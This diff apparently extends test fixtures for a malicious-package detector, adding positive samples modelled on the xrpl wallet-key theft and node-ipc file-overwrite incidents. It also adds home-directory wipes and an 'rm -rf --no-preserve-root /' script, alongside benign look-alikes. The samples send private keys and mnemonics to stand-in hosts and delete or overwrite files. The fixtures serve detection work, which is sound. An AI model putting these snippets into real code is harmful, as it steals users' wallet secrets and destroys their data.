@@ -176,11 +176,50 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                     "https.request({host: 'c.example.invalid', method: 'POST'}).end(t);\n"
                 )
             },
+            {
+                # xrpl 4.2.1 (2025): the wallet's private key leaves in a header, through a helper
+                "src/wallet/index.js": (
+                    "const fetch = require('node-fetch');\n"
+                    "function checkValidityOfSeed(seed) {\n"
+                    "  fetch('https://c.example.invalid/xc', {method: 'POST', headers: {'ad-referral': seed}});\n"
+                    "}\n"
+                    "class Wallet {\n"
+                    "  constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); }\n"
+                    "}\n"
+                    "module.exports = { Wallet };\n"
+                )
+            },
+            {
+                "x/wallet.py": (
+                    "import requests\n"
+                    "def restore(mnemonic):\n"
+                    "    requests.post('https://c.example.invalid/r', json={'m': mnemonic})\n"
+                )
+            },
         ],
         "benign": [
             {"x/cfg.py": "import os\nCONFIG = os.path.expanduser('~/.config/x/settings.toml')\n"},
             {
                 "index.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('package.json', 'utf8');\n"
+            },
+            {
+                # generation APIs send a random seed; certificate APIs upload a TLS private key
+                "x/client.py": (
+                    "import requests\n"
+                    "def generate(prompt, seed):\n"
+                    "    return requests.post('https://api.example.invalid/g', json={'p': prompt, 'seed': seed})\n"
+                    "def upload_certificate(certificate, private_key):\n"
+                    "    return requests.post('https://api.example.invalid/c', json={'private_key': private_key})\n"
+                )
+            },
+            {
+                "lib/sign.js": (
+                    "const https = require('https');\n"
+                    "function send(wallet, privateKey, tx) {\n"
+                    "  const signed = wallet.sign(tx);\n"
+                    "  https.request({host: 'rpc.example.invalid', method: 'POST'}).end(signed);\n"
+                    "}\n"
+                )
             },
         ],
     },
@@ -291,6 +330,68 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
         "benign": [
             {"x/copy.py": "import pyperclip\n\ndef share(text):\n    pyperclip.copy(text)\n"},
             {"index.js": "module.exports = t => navigator.clipboard.writeText(t);\n"},
+        ],
+    },
+    "capability-fs-write": {
+        "positive": [
+            {"x/cache.py": "def save(path, data):\n    with open(path, 'wb') as out:\n        out.write(data)\n"},
+            {"index.js": "const fs = require('fs');\nmodule.exports = (p, d) => fs.writeFileSync(p, d);\n"},
+        ],
+        "benign": [
+            {"x/load.py": "def load(path):\n    with open(path) as source:\n        return source.read()\n"},
+            {"index.js": "const fs = require('fs');\nmodule.exports = p => fs.readFileSync(p, 'utf8');\n"},
+        ],
+    },
+    "malicious-destructive-write": {
+        "positive": [
+            {
+                # node-ipc 10.1.1 (2022): a geolocation answer decides whether every file is overwritten
+                "dao/geo.js": (
+                    "import u from 'path'; import a from 'fs'; import o from 'https';\n"
+                    "o.get('https://geo.example.invalid/ip', function (res) {\n"
+                    "  res.on('data', function (chunk) {\n"
+                    "    const dir = Buffer.from('Li8=', 'base64').toString('utf8');\n"
+                    "    const c = JSON.parse(chunk.toString('utf8'));\n"
+                    "    if (c.country_name === 'inert') {\n"
+                    "      for (const f of a.readdirSync(dir)) { a.writeFileSync(u.join(dir, f), 'inert'); }\n"
+                    "    }\n"
+                    "  });\n"
+                    "});\n"
+                )
+            },
+            {"x/wipe.py": "import os, shutil\n\ndef wipe():\n    shutil.rmtree(os.path.expanduser('~'))\n"},
+            {
+                "x/over.py": (
+                    "import os\nhome = os.environ['HOME']\n"
+                    "for root, dirs, files in os.walk(home):\n"
+                    "    for name in files:\n"
+                    "        open(os.path.join(root, name), 'w').write('inert')\n"
+                )
+            },
+            {
+                "index.js": "const fs = require('fs'); const os = require('os');\nfs.rmSync(os.homedir(), {recursive: true});\n"
+            },
+            {"scripts/clean.sh": "#!/bin/sh\nrm -rf --no-preserve-root /\n"},
+        ],
+        "benign": [
+            {
+                # fs-extra's emptyDir: deletes the entries of the directory it is given
+                "lib/empty.js": (
+                    "const fs = require('fs'); const path = require('path');\n"
+                    "module.exports = dir => { for (const f of fs.readdirSync(dir)) fs.rmSync(path.join(dir, f), "
+                    "{recursive: true}); };\n"
+                )
+            },
+            {
+                "setup.py": (
+                    "import os\nfrom setuptools import setup\n"
+                    "for name in os.listdir('.'):\n"
+                    "    if name.endswith('.pyc'):\n"
+                    "        os.remove(name)\n"
+                    "setup(name='x')\n"
+                )
+            },
+            {"scripts/clean.sh": "#!/bin/sh\nrm -rf ./build ~/.cache/x\ncd dist && rm -rf *\n"},
         ],
     },
     "malicious-silent-process": {
